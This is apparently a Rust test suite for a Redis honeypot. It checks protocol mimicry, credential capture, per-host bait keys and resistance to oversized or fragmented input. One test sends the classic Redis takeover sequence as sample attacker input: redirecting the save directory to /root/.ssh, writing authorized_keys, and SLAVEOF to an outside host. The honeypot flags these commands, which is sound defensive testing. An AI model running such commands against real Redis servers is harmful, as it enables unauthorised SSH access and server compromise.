use proptest::prelude::*;

use super::*;

fn session() -> RedisSession {
    let persona = Persona::from_pairs(&[("NODE_NAME", "db01"), ("HOSTNAME", "db01.corp.local")]);
    let redis = Redis::from_persona(&persona);
    let conn = ConnInfo {
        peer: "198.51.100.7:40000".parse().unwrap(),
        local: "10.0.0.5:6379".parse().unwrap(),
    };
    let mut s = RedisSession {
        server: redis,
        buf: Vec::new(),
        wait: None,
        parses: 0,
        writes: BTreeMap::new(),
        peer: conn.peer.to_string(),
        closed: false,
    };
    let mut step = Step::default();
    s.start(&mut step);
    assert_eq!(step, Step::default(), "redis sends no greeting");
    s
}

fn drive(s: &mut RedisSession, input: &[u8]) -> Step {
    let mut step = Step::default();
    s.receive(input, &mut step);
    step
}

#[test]
fn redis_cli_startup_and_ping() {
    let mut s = session();
    // redis-cli 7 sends COMMAND DOCS first, then the user's command.
    let step = drive(
        &mut s,
        b"*2\r\n$7\r\nCOMMAND\r\n$4\r\nDOCS\r\n*1\r\n$4\r\nPING\r\n",
    );
    assert_eq!(step.out, b"*0\r\n+PONG\r\n");
    assert_eq!(step.events.len(), 2);
    assert_eq!(step.events[0].kind, "command");
    assert_eq!(step.events[0].field("cmd"), Some("command"));
    assert_eq!(step.events[0].field("args"), Some("DOCS"));
}

#[test]
fn info_looks_like_redis_7() {
    let mut s = session();
    let step = drive(&mut s, b"*1\r\n$4\r\nINFO\r\n");
    let text = String::from_utf8(step.out).unwrap();
    assert!(text.starts_with('$'));
    let body = text.split_once("\r\n").unwrap().1;
    assert!(
        body.starts_with("# Server\r\nredis_version:7.2.7\r\n"),
        "{body}"
    );
    assert!(body.contains("os:Linux 6.1.0-27-amd64 x86_64"));
    let declared: usize = text[1..text.find('\r').unwrap()].parse().unwrap();
    assert_eq!(declared + 2, body.len(), "bulk length must be exact");
}

#[test]
fn auth_is_captured_and_answered_like_an_open_server() {
    let mut s = session();
    let step = drive(
        &mut s,
        b"AUTH hunter2\r\n*3\r\n$4\r\nAUTH\r\n$5\r\nadmin\r\n$3\r\npwd\r\n",
    );
    let text = String::from_utf8(step.out).unwrap();
    assert_eq!(
        text.matches("-ERR AUTH <password> called without any password configured")
            .count(),
        2
    );
    assert_eq!(step.events[0].kind, "auth");
    assert_eq!(step.events[0].field("username"), Some("default"));
    assert_eq!(step.events[0].field("password"), Some("hunter2"));
    assert_eq!(step.events[1].field("username"), Some("admin"));
    assert_eq!(step.events[1].severity, Severity::Warning);
}

#[test]
fn bait_keys_are_browsable_and_per_host() {
    let mut s = session();
    let step = drive(&mut s, b"KEYS *\r\n");
    let text = String::from_utf8(step.out.clone()).unwrap();
    assert!(text.starts_with("*11\r\n"), "{text}");
    assert!(text.contains("aws:access_key_id"));
    let step = drive(
        &mut s,
        b"GET aws:access_key_id\r\nTYPE user:1001\r\nHGETALL user:1001\r\nGET nope\r\n",
    );
    let text = String::from_utf8(step.out).unwrap();
    assert!(text.contains("AKIA"));
    assert!(text.contains("+hash\r\n"));
    assert!(text.contains("admin@corp.local"));
    assert!(text.ends_with("$-1\r\n"));
    let other = Redis::from_persona(&Persona::from_pairs(&[("HOSTNAME", "cache02")]));
    assert_ne!(
        other.keys.get("jwt_secret"),
        s.server.keys.get("jwt_secret")
    );
}

#[test]
fn exploitation_steps_answer_and_are_flagged() {
    let mut s = session();
    let step = drive(
        &mut s,
        b"CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nSAVE\r\nSLAVEOF 203.0.113.5 8886\r\nCONFIG GET dir\r\n",
    );
    assert_eq!(
        String::from_utf8(step.out).unwrap(),
        "+OK\r\n+OK\r\n+OK\r\n+OK\r\n*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n"
    );
    assert!(
        step.events[..4]
            .iter()
            .all(|e| e.severity == Severity::Warning)
    );
    assert_eq!(step.events[4].severity, Severity::Info);
    assert_eq!(step.events[3].field("args"), Some("203.0.113.5 8886"));
}

#[test]
fn unknown_command_and_arity_errors_match_redis() {
    let mut s = session();
    let step = drive(&mut s, b"FOO bar baz\r\nGET\r\n");
    assert_eq!(
        String::from_utf8(step.out).unwrap(),
        "-ERR unknown command 'FOO', with args beginning with: 'bar' 'baz' \r\n\
         -ERR wrong number of arguments for 'get' command\r\n"
    );
}

#[test]
fn byte_at_a_time_gives_the_same_result() {
    let input = b"*2\r\n$3\r\nGET\r\n$10\r\njwt_secret\r\nPING\r\n*1\r\n$4\r\nQUIT\r\n";
    let mut whole = session();
    let expected = drive(&mut whole, input);
    let mut split = session();
    let mut out = Vec::new();
    let mut closed = false;
    for b in input {
        let step = drive(&mut split, std::slice::from_ref(b));
        out.extend(step.out);
        closed |= step.close;
    }
    assert_eq!(out, expected.out);
    assert!(closed && expected.close);
}

#[test]
fn protocol_errors_close_like_redis() {
    let mut s = session();
    let step = drive(&mut s, b"*2\r\n+x\r\n");
    assert_eq!(step.out, b"-ERR Protocol error: expected '$'\r\n");
    assert!(step.close);
    let mut s = session();
    let step = drive(&mut s, b"*99999999\r\n");
    assert!(
        step.close
            && step
                .out
                .starts_with(b"-ERR Protocol error: invalid multibulk length")
    );
    let mut s = session();
    let step = drive(&mut s, &vec![b'a'; MAX_INLINE + 10]);
    assert!(
        step.close
            && step
                .out
                .starts_with(b"-ERR Protocol error: too big inline request")
    );
}

#[test]
fn glob_patterns() {
    use crate::protocols::glob::glob;
    assert!(glob(b"aws:*", b"aws:secret_access_key"));
    assert!(glob(b"s?ssion:*", b"session:ab"));
    assert!(!glob(b"user:*", b"api_key"));
}

proptest! {
    #[test]
    fn never_panics_and_stays_bounded(chunks in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..512), 0..16)) {
        let mut s = session();
        for c in &chunks {
            let step = drive(&mut s, c);
            prop_assert!(step.out.len() < 1 << 20);
        }
        prop_assert!(s.buf.len() <= MAX_INLINE + 512 + MAX_BULK + 64);
    }
}

/// Pipelined `KEYS *` over a keyspace of long names: one step's output stops at its cap, the
/// connection closes, and the rest of the pipeline is not run (it once built gigabytes).
#[test]
fn pipelined_keys_over_long_names_stop_at_the_output_cap() {
    let mut s = session();
    for i in 0..900 {
        let key = format!("{i:03}{}", "k".repeat(1000));
        let set = format!("*3\r\n$3\r\nSET\r\n${}\r\n{key}\r\n$1\r\nv\r\n", key.len());
        drive(&mut s, set.as_bytes());
    }
    let keys = b"*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n".repeat(500);
    let started = std::time::Instant::now();
    let step = drive(&mut s, &keys);
    assert!(step.close);
    assert_eq!(step.out.len(), crate::session::MAX_STEP_OUT);
    assert!(step.events.iter().any(|e| e.kind == "output_limit"));
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}

/// A command fed a byte at a time is parsed a few times per argument, not once per byte (each
/// parse walks every argument received so far), and answered as when fed whole; a pipelined
/// burst is answered in order.
#[test]
fn commands_in_pieces_are_parsed_once_per_argument() {
    let mut input = b"*1024\r\n".to_vec();
    for i in 0..1023 {
        input.extend_from_slice(format!("$3\r\nk{:02}\r\n", i % 100).as_bytes());
    }
    input.extend_from_slice(b"$2048\r\n");
    input.extend(std::iter::repeat_n(b'v', 2048));
    input.extend_from_slice(b"\r\nPING\r\n*1\r\n$4\r\nPING\r\n");
    let mut whole = session();
    let expected = drive(&mut whole, &input);
    for piece in [1, 3, 64] {
        let mut s = session();
        let mut out = Vec::new();
        let mut events = Vec::new();
        for part in input.chunks(piece) {
            let step = drive(&mut s, part);
            out.extend(step.out);
            events.extend(step.events);
        }
        assert_eq!(out, expected.out, "in pieces of {piece}");
        assert_eq!(events, expected.events, "in pieces of {piece}");
        if piece == 1 {
            assert!(s.parses < 4 * 1024 + 100, "{} parses", s.parses);
        }
    }
    assert!(String::from_utf8_lossy(&expected.out).ends_with("+PONG\r\n+PONG\r\n"));
}

/// Keys and patterns past 1 KiB are neither kept nor matched (a 512 KiB key matched against a
/// 256 KiB pattern cost a minute per KEYS), and DBSIZE counts without copying every key.
#[test]
fn long_keys_and_patterns_cost_nothing() {
    let mut s = session();
    let long = "a".repeat(512 * 1024);
    let set = |key: &str| {
        let mut c = format!("*3\r\n$3\r\nSET\r\n${}\r\n", key.len()).into_bytes();
        c.extend_from_slice(key.as_bytes());
        c.extend_from_slice(b"\r\n$1\r\nx\r\n");
        c
    };
    let before = String::from_utf8_lossy(&drive(&mut s, b"DBSIZE\r\n").out).into_owned();
    assert_eq!(drive(&mut s, &set(&long)).out, b"+OK\r\n");
    assert_eq!(drive(&mut s, &set("short")).out, b"+OK\r\n");
    let after = String::from_utf8_lossy(&drive(&mut s, b"DBSIZE\r\n").out).into_owned();
    let n = |t: &str| t.trim_start_matches(':').trim().parse::<usize>().unwrap();
    assert_eq!(n(&after), n(&before) + 1, "only the short key is kept");
    let pattern = format!("*{}b", "a".repeat(256 * 1024));
    let mut keys = format!("*2\r\n$4\r\nKEYS\r\n${}\r\n", pattern.len()).into_bytes();
    keys.extend_from_slice(pattern.as_bytes());
    keys.extend_from_slice(b"\r\n");
    let started = std::time::Instant::now();
    assert_eq!(drive(&mut s, &keys).out, b"*0\r\n");
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
    assert!(String::from_utf8_lossy(&drive(&mut s, b"KEYS short\r\n").out).contains("short"));
}
